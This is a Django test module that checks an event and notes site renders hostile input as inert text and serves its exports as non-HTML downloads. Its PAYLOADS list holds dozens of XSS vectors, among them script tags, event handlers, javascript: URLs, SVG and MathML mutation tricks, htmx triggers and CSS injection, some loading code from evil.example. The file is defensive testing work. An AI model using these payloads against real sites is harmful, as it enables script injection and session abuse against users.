"""Hostile input, through every field a stranger can fill, shows as inert text on every
page and export that shows it.

Each payload carries a marker ("xss07"). Every page is parsed (Python's html.parser) and
must hold, whatever the payloads:
- no element a page of ours never has (svg, math, iframe, object, style…), no `on…`,
  `style` or `srcdoc` attribute, no script or stylesheet that is not one of ours;
- the marker only in text, in attributes that hold text (value, title, alt, hx-confirm…)
  or in URLs that are plain links: to this site, or http(s)/mailto; never in an htmx
  attribute (hx-*, data-hx-*) or another data-* attribute, never a javascript:/data: URL;
- where a field is plain text (titles, names, speakers, venues…), the value as stored
  appears verbatim in the page's text: it was escaped, not interpreted;
- inside rendered Markdown (notes, descriptions, abstracts) only the sanitizer's
  allow-list (notes/rendering.py): its tags, its attributes, safe URLs.
Exports are downloads (or JSON / calendar data), never HTML, and browsers are told not
to sniff them.
"""

import re
from dataclasses import dataclass, field
from datetime import date, timedelta
from html.parser import HTMLParser

import nh3
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from accounts.services import profile_update
from notes import presence, rendering
from notes.models import NoteContributor
from sessions import services
from sessions.agenda.services import agenda_feed_reset, star_set
from sessions.archive.browse_selectors import EVENTS_PER_PAGE, events_page, home_events
from sessions.board import services as board
from sessions.board.identity import GUEST_COOKIE, Actor, guest_key_from_cookie
from sessions.models import Event, OpenSpace, Talk
from sessions.transfer.importing import event_import
from tests.factories import local, make_slot, make_user

PAYLOADS = [
    # script tags
    "<script>alert('MARK')</script>",
    "<SCRIPT SRC=//evil.example/MARK.js></SCRIPT>",
    "<scr<script>ipt>alert('MARK')</scr</script>ipt>",
    "\"><script>alert('MARK')</script>",
    "</textarea><script>alert('MARK')</script>",
    "</title><script>alert('MARK')</script>",
    "<script type=\"module\">import '//evil.example/MARK'</script>",
    # event handlers
    "<img src=x onerror=alert('MARK')>",
    "<body onload=alert('MARK')>",
    "<div onmouseover=\"alert('MARK')\">hover</div>",
    '" onfocus="alert(\'MARK\')" autofocus="',
    "' onclick='alert(\"MARK\")",
    "<input autofocus onfocus=alert('MARK')>",
    "<details open ontoggle=alert('MARK')>",
    "<video><source onerror=\"alert('MARK')\"></video>",
    # javascript: and data: URLs
    "<a href=\"javascript:alert('MARK')\">click</a>",
    "[click](javascript:alert('MARK'))",
    "[click](JaVaScRiPt:alert('MARK'))",
    "[click](java&#x09;script:alert('MARK'))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==?MARK)",
    "![img](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#MARK)",
    '[x](vbscript:msgbox("MARK"))',
    "<iframe src=\"javascript:alert('MARK')\"></iframe>",
    "<a href=\"data:text/html,<script>alert('MARK')</script>\">d</a>",
    "[link](<javascript:alert('MARK')>)",
    "<form action=\"javascript:alert('MARK')\"><button>go</button></form>",
    # SVG
    "<svg onload=alert('MARK')>",
    "<svg><script>alert('MARK')</script></svg>",
    "<svg><a xlink:href=\"javascript:alert('MARK')\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert('MARK') attributeName=x dur=1s>",
    "![svg](https://evil.example/MARK.svg)",
    # MathML
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('MARK')>",
    "<math href=\"javascript:alert('MARK')\">x</math>",
    '<math><maction actiontype="statusline#MARK" xlink:href="javascript:alert(1)">x</maction></math>',
    # malformed HTML
    '<img """><script>alert(\'MARK\')</script>">',
    "<<script>script>alert('MARK')//<</script>/script>",
    '<a href="/MARK"<b>unclosed',
    "<!--<img src=\"--><img src=x onerror=alert('MARK')//\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('MARK')>\">",
    "<style><img src=\"</style><img src=x onerror=alert('MARK')//\">",
    "<![CDATA[<script>alert('MARK')</script>]]>",
    "<x/onpointerover=alert('MARK')>hover",
    # Markdown link and image tricks
    '[a](https://ok.example "t\\" onmouseover=\\"alert(\'MARK\')")',
    "![a\" onerror=\"alert('MARK')](x.png)",
    "[a]: javascript:alert('MARK')\n\n[a]",
    "<https://evil.example/MARK>",
    "<javascript:alert('MARK')>",
    "`<script>alert('MARK')</script>`",
    "[x](\njavascript:alert('MARK'))",
    # htmx attributes, which htmx would run
    '<div hx-get="/admin/MARK" hx-trigger="load">x</div>',
    "<a hx-on:click=\"alert('MARK')\">x</a>",
    '<div data-hx-post="/MARK" data-hx-trigger="load">x</div>',
    '<button hx-post="/accounts/logout/?MARK" hx-trigger="load">x</button>',
    "<div hx-on::load=\"alert('MARK')\">",
    '<form hx-put="/MARK" hx-trigger="load"></form>',
    '<span hx-vals=\'{"x": "MARK"}\' hx-get="/" hx-trigger="load">',
    '<div hx-swap-oob="true" id="main">MARK</div>',
    # CSS injection
    "<style>body{background:url(\"javascript:alert('MARK')\")}</style>",
    "<div style=\"background-image:url(javascript:alert('MARK'))\">x</div>",
    '<link rel=stylesheet href="https://evil.example/MARK.css">',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%" title="MARK">overlay</p>',
    "</style><style>@import 'https://evil.example/MARK.css';</style>",
    "expression(alert('MARK'))",
    '<img src="x" style="x:expression(alert(\'MARK\'))">',
]
HOSTILE = [payload.replace("MARK", f"xss{n:02d}") for n, payload in enumerate(PAYLOADS)]
MARKER = re.compile(r"xss\d\d")


def test_there_are_at_least_fifty_payloads_each_marked():
    assert len(HOSTILE) >= 50
    assert all(MARKER.search(payload) for payload in HOSTILE)


# --- Reading a page ----------------------------------------------------------------------

# Everything our templates produce, plus what sanitized Markdown may hold.
PAGE_TAGS = {
    "html", "head", "meta", "title", "link", "script", "body", "header", "nav", "main",
    "footer", "section", "article", "aside", "div", "span", "p", "a", "ul", "ol", "li", "h1",
    "h2", "h3", "h4", "h5", "h6", "table", "caption", "thead", "tbody", "tr", "th", "td",
    "form", "input", "button", "label", "select", "option", "optgroup", "textarea", "time",
    "strong", "em", "b", "i", "code", "pre", "br", "hr", "small", "abbr", "kbd", "sub", "sup",
    "blockquote", "del", "s", "img", "fieldset", "legend", "dl", "dt", "dd", "details",
    "summary", "mark", "svg", "path", "rect", "g",
}  # fmt: skip
# svg: the display's QR codes (segno), rendered from our own URLs: they must hold no marker.
TEXT_ATTRIBUTES = {
    "value",
    "title",
    "alt",
    "aria-label",
    "placeholder",
    "hx-confirm",
    "data-user-name",
}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data-authors-url"}
MARKDOWN_CONTAINERS = {"notes-rendered", "abstract", "proposal__description"}
VOID = {"meta", "link", "input", "br", "hr", "img", "source", "col", "area", "base", "wbr"}


@dataclass
class Element:
    tag: str
    attrs: list[tuple[str, str | None]]
    in_markdown: bool
    text: list[str] = field(default_factory=list)


class Page(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[Element] = []
        self.texts: list[str] = []
        self._open: list[Element] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        classes = set((dict(attrs).get("class") or "").split())
        in_markdown = bool(classes & MARKDOWN_CONTAINERS) or any(e.in_markdown for e in self._open)
        element = Element(tag, attrs, in_markdown)
        self.elements.append(element)
        if tag not in VOID:
            self._open.append(element)

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        if tag not in VOID:
            self._open.pop()

    def handle_endtag(self, tag):
        for index in range(len(self._open) - 1, -1, -1):
            if self._open[index].tag == tag:
                del self._open[index:]
                return

    def handle_data(self, data):
        self.texts.append(data)
        if self._open:
            self._open[-1].text.append(data)

    @property
    def text(self) -> str:
        return " ".join(" ".join(self.texts).split())


def _safe_url(value: str) -> bool:
    """A link a browser follows as a plain link: http(s), mailto, or without a scheme
    (relative). Browsers drop tabs and newlines and trim spaces first (WHATWG URL)."""
    url = "".join(value.split()).lower()
    scheme = re.match(r"^([a-z][a-z0-9+.-]*):", url)
    return scheme is None or scheme.group(1) in ("http", "https", "mailto")


# What a page's <link> elements may point to: our static files, and our own Atom feeds.
OUR_LINKS = ("/static/", "/notes.atom")


def problems(html: str, *, plain: list[str] = ()) -> list[str]:
    """What in a page did not stay inert; `plain`: stored plain-text values it shows."""
    page = Page(html)
    found = []
    for e in page.elements:
        where = f"<{e.tag} {dict(e.attrs)}>"
        if e.tag not in PAGE_TAGS:
            found.append(f"foreign element {where}")
        if e.in_markdown and e.tag not in rendering.ALLOWED_TAGS and e.tag not in ("div",):
            found.append(f"element outside the Markdown allow-list {where}")
        if e.tag == "script" and not (dict(e.attrs).get("src") or "").startswith("/static/"):
            found.append(f"a script that is not ours {where}")
        if e.tag == "link" and not (dict(e.attrs).get("href") or "").startswith(OUR_LINKS):
            found.append(f"a stylesheet or link that is not ours {where}")
        if e.tag in ("script", "style") and MARKER.search("".join(e.text)):
            found.append(f"marker inside <{e.tag}>")
        for name, value in e.attrs:
            value = value or ""
            if MARKER.search(name) or MARKER.search(e.tag):
                found.append(f"marker as a name {where}")
            if name.startswith("on") or name in ("style", "srcdoc"):
                found.append(f"attribute {name} {where}")
            if e.in_markdown and e.tag in rendering.ALLOWED_TAGS:
                allowed = rendering.ALLOWED_ATTRIBUTES.get(e.tag, set()) | {"rel", "class", "id"}
                if name not in allowed:
                    found.append(f"attribute {name} outside the allow-list {where}")
            if name in URL_ATTRIBUTES and not _safe_url(value):
                found.append(f"{name}={value!r} {where}")
            if not MARKER.search(value):
                continue
            if name in TEXT_ATTRIBUTES:
                continue
            if name in URL_ATTRIBUTES:
                continue  # a plain link (checked above)
            found.append(f"marker in {name}={value!r} {where}")
    for value in plain:
        shown = " ".join(value.split())
        if MARKER.search(shown) and shown not in page.text:
            found.append(f"plain text not shown verbatim: {shown!r}")
    return found


def assert_inert(response, *, plain: list[str] = ()) -> None:
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"] == "text/html; charset=utf-8"
    assert problems(response.content.decode(), plain=plain) == []


def test_the_checker_catches_live_html():
    caught = [
        problems(f"<p>{html}</p>")
        for html in (
            "<script>alert('xss01')</script>",
            '<img src=x onerror="xss02">',
            '<a href="javascript:alert(1)">x</a>',
            '<div hx-get="/xss03">x</div>',
            '<div data-hx-post="/xss04">x</div>',
            '<p style="color:red">x</p>',
            "<svg><animate/></svg><math></math>",
        )
    ]
    escaped = problems(
        "<p>&lt;script&gt;alert('xss05')&lt;/script&gt;</p>",
        plain=["<script>alert('xss05')</script>"],
    )
    interpreted = problems("<p><b>xss06</b></p>", plain=["<b>xss06</b>"])

    assert all(caught)
    assert escaped == []
    assert interpreted == ["plain text not shown verbatim: '<b>xss06</b>'"]


def test_the_sanitizer_allow_list_drops_htmx_data_and_style_attributes():
    dirty = (
        '<p hx-get="/x" hx-on:click="alert(1)" data-hx-post="/y" data-x="1" style="color:red" '
        'onclick="alert(1)">t</p><a href="javascript:alert(1)" hx-boost="true">a</a>'
        '<img src="data:image/png;base64,AAAA" onerror="x"><svg></svg><math></math>'
    )

    clean = nh3.clean(
        dirty,
        tags=rendering.ALLOWED_TAGS,
        attributes=rendering.ALLOWED_ATTRIBUTES,
        url_schemes={"http", "https", "mailto"},
        link_rel="noopener noreferrer nofollow",
    )

    assert clean == '<p>t</p><a rel="noopener noreferrer nofollow">a</a><img>'
    assert not any(
        name.startswith(("hx-", "data-", "on")) or name == "style"
        for attrs in rendering.ALLOWED_ATTRIBUTES.values()
        for name in attrs
    )


# --- The world: every stranger's field filled with every payload --------------------------


def _fit(text: str, length: int) -> str:
    return text[:length]


@pytest.fixture
def hostile(db):
    """One event with a talk, a topic and a contributor per payload (titles, speakers,
    hosts, descriptions, notes, guest names), imported items, a team whose members chose
    hostile names; and one more event per payload for the event's own fields."""
    organizer = make_user(username="orga")
    profile_update(user=organizer, display_name=_fit(HOSTILE[0], 60))
    start = timezone.localdate() + timedelta(days=30)
    event = services.event_create(
        user=organizer,
        name=HOSTILE[1],
        slug="hostile",
        start_date=start,
        end_date=start + timedelta(days=1),
        timezone="Europe/Paris",
        venue=_fit(HOSTILE[2], 200),
        description=HOSTILE[3],
        notes_access="guests",
        open_space_placement="hosts",
    )
    by = Actor(user=organizer)
    room = board.room_create(actor=by, event=event, name=_fit(HOSTILE[4], 100), capacity=None)
    slots = [
        make_slot(event=event, start=local(event, start.year, start.month, start.day, 9 + n),
                  end=local(event, start.year, start.month, start.day, 9 + n, 45))
        for n in range(3)
    ]  # fmt: skip
    for n, payload in enumerate(HOSTILE):
        guest = Actor(guest_key=f"guest-{n}")
        talk = services.talk_save(
            actor=by, event=event, title=payload, speakers=payload, abstract=payload
        )
        talk.note.markdown = payload
        talk.note.save(update_fields=["markdown"])
        NoteContributor.objects.create(note=talk.note, name=_fit(payload, 100))
        topic = board.open_space_propose(
            actor=guest, event=event, title=payload, host=_fit(payload, 200), description=payload
        )
        topic.note.markdown = payload
        topic.note.save(update_fields=["markdown"])
        if n < len(slots):
            board.open_space_place(actor=by, open_space=topic, room=room, slot=slots[n])
    member = make_user(username="member")
    profile_update(user=member, display_name=_fit(HOSTILE[5], 60))
    event.organizers.add(member)
    org_file = "".join(
        f"* {' '.join(p.split())}\n:PROPERTIES:\n:SPEAKERS: {' '.join(p.split())}\n:END:\n"
        f"- {' '.join(p.split())}\n"
        for p in HOSTILE
    )
    event_import(event=event, files=[("hostile.org", org_file.encode())])
    events = [
        services.event_create(
            user=organizer,
            name=_fit(payload, 200),
            slug=f"hostile-{n}",
            start_date=date(2026, 6, 10),
            end_date=date(2026, 6, 11),
            venue=_fit(payload, 200),
            description=payload,
        )
        for n, payload in enumerate(HOSTILE)
    ]
    client = Client()
    client.force_login(organizer)
    return {"event": event, "events": events, "organizer": client, "org_file": org_file}


def _plain_of_event(event: Event) -> list[str]:
    return [event.name, event.venue]


@pytest.mark.django_db
def test_event_pages_and_home_show_event_fields_inert(hostile, client):
    events = hostile["events"]

    home = home_events(today=timezone.localdate())
    shown = [*home.now, *home.upcoming, *home.past]
    assert shown
    assert_inert(client.get("/"), plain=[e.name for e in shown])
    for number in range(1, len(events) // EVENTS_PER_PAGE + 2):
        page, _ = events_page(series=None, page=number)
        listed = client.get(reverse("sessions:events"), {"page": number})
        assert_inert(listed, plain=[e.name for e in page.object_list])
    for event in events:
        assert_inert(client.get(event.get_absolute_url()), plain=_plain_of_event(event))
    for event in events[::8]:
        page = hostile["organizer"].get(reverse("sessions:event_settings", args=[event.slug]))
        assert_inert(page)


@pytest.mark.django_db
def test_schedule_and_item_pages_show_titles_speakers_notes_and_names_inert(hostile, client):
    event = hostile["event"]
    talks = list(Talk.objects.filter(event=event).select_related("event", "room"))
    topics = list(OpenSpace.objects.filter(event=event).select_related("event"))
    names = list(NoteContributor.objects.values_list("name", flat=True))

    assert_inert(
        client.get(event.get_absolute_url()),
        plain=[event.name, *[t.title for t in talks], *[o.title for o in topics]],
    )
    for talk in talks:
        contributors = [c.name for c in talk.note.contributors.all()]
        assert_inert(
            client.get(talk.get_absolute_url()), plain=[talk.title, talk.speakers, *contributors]
        )
    for topic in topics:
        assert_inert(client.get(topic.get_absolute_url()), plain=[topic.title, topic.host])
    assert len(names) == len(HOSTILE)


@pytest.mark.django_db
def test_live_editor_page_shows_a_hostile_display_name_inert(hostile):
    talk = Talk.objects.filter(event=hostile["event"]).first()

    response = hostile["organizer"].get(talk.get_absolute_url() + "?write")

    assert_inert(response, plain=[talk.title])
    assert 'data-user-name="' in response.content.decode()


@pytest.mark.django_db
def test_board_pages_show_topics_inert(hostile, client):
    event = hostile["event"]
    topics = list(OpenSpace.objects.filter(event=event))
    plain = [t.title for t in topics] + [t.host for t in topics]
    slug = event.slug
    at = f"{event.start_date.isoformat()}T09:10"

    assert_inert(client.get(reverse("sessions:open_spaces", args=[slug])), plain=plain)
    assert_inert(
        hostile["organizer"].get(reverse("sessions:open_spaces", args=[slug])), plain=plain
    )
    assert_inert(hostile["organizer"].get(reverse("sessions:board", args=[slug])), plain=plain)
    assert_inert(client.get(reverse("sessions:board_display", args=[slug]), {"at": at}))


@pytest.mark.django_db
def test_organizer_pages_show_rooms_talks_and_members_inert(hostile):
    event = hostile["event"]
    organizer = hostile["organizer"]
    talks = list(Talk.objects.filter(event=event))

    assert_inert(
        organizer.get(reverse("sessions:board_setup", args=[event.slug])),
        plain=[event.rooms.get().name, *[t.title for t in talks]],
    )
    assert_inert(organizer.get(reverse("sessions:team", args=[event.slug])))
    edit = organizer.get(
        reverse("sessions:board_talk_edit", args=[event.slug, talks[0].pk]),
        headers={"HX-Request": "true"},
    )
    assert problems(edit.content.decode()) == []


@pytest.mark.django_db
def test_import_preview_shows_imported_titles_and_speakers_inert(hostile):
    event = hostile["event"]

    response = hostile["organizer"].post(
        reverse("sessions:event_import", args=[event.slug]),
        {"files": [SimpleUploadedFile("again.org", hostile["org_file"].encode())]},
    )

    assert_inert(response)


@pytest.mark.django_db
def test_exports_are_downloads_or_data_never_html(hostile, client):
    event = hostile["event"]
    talk = Talk.objects.filter(event=event).first()
    slug = event.slug
    expected = {
        reverse("sessions:event_notes_md", args=[slug]): "text/markdown; charset=utf-8",
        reverse("sessions:event_notes_org", args=[slug]): "text/org; charset=utf-8",
        reverse("sessions:event_notes_zip", args=[slug]): "application/zip",
        reverse("sessions:talk_notes_md", args=[slug, talk.slug]): "text/markdown; charset=utf-8",
        reverse("sessions:schedule_json", args=[slug]): "application/json",
        reverse("sessions:schedule_ics", args=[slug]): "text/calendar; charset=utf-8",
    }

    answers = {url: client.get(url) for url in expected}

    assert {url: r["Content-Type"] for url, r in answers.items()} == expected
    assert {r["X-Content-Type-Options"] for r in answers.values()} == {"nosniff"}
    downloads = [r for r in answers.values() if "attachment" in r.get("Content-Disposition", "")]
    assert len(downloads) == 4
    assert any(MARKER.search(r.content.decode("utf-8", "replace")) for r in downloads)


@pytest.mark.django_db
def test_agenda_outcomes_strips_and_the_closing_circle_show_hostile_text_inert(hostile):
    """Stars on every hostile talk and topic, their notes full of hostile action items and
    decisions, and hostile names in a running session's notes (the live strip)."""
    event = hostile["event"]
    slug = event.slug
    guest = Client()
    guest.get(reverse("sessions:open_spaces", args=[slug]))  # a guest browser, with its key
    actor = Actor(guest_key=guest_key_from_cookie(guest.cookies[GUEST_COOKIE].value))
    talks = list(Talk.objects.filter(event=event).select_related("event", "note"))
    topics = list(OpenSpace.objects.filter(event=event).select_related("event", "note"))
    for n, item in enumerate([*talks, *topics]):
        payload = HOSTILE[n % len(HOSTILE)]
        item.note.markdown = f"- [ ] {payload}\n- [x] {payload}\n\nDecision: {payload}\n"
        item.note.save(update_fields=["markdown"])
        star_set(actor=actor, item=item, starred=True)
    agenda_feed_reset(actor=actor, event=event)
    presence._store(
        talks[0].note_id, "p", {"names": HOSTILE[:12], "here": 3, "writing": 1, "at": 1e12}
    )
    titles = [t.title for t in talks] + [o.title for o in topics]

    assert_inert(guest.get(reverse("sessions:agenda", args=[slug])), plain=titles)
    outcomes = guest.get(reverse("sessions:outcomes", args=[slug]))
    assert_inert(outcomes, plain=titles)
    assert MARKER.search(outcomes.content.decode())  # the payloads are there, as text
    strip = guest.get(reverse("sessions:talk_presence", args=[slug, talks[0].pk]))
    assert problems(strip.content.decode()) == []
    placed = next(topic for topic in topics if topic.slot_id is not None)
    end = placed.slot.end.astimezone(event.tz).strftime("%Y-%m-%dT%H:%M")
    closing = guest.get(
        reverse("sessions:board_display", args=[slug]), {"show": "outcomes", "at": end}
    )
    assert_inert(closing)
    assert "display-outcomes" in closing.content.decode()
    md = guest.get(reverse("sessions:outcomes_md", args=[slug]))
    assert (md["Content-Type"], md["X-Content-Type-Options"]) == (
        "text/markdown; charset=utf-8",
        "nosniff",
    )
    assert md["Content-Disposition"] == f'attachment; filename="{slug}-outcomes.md"'
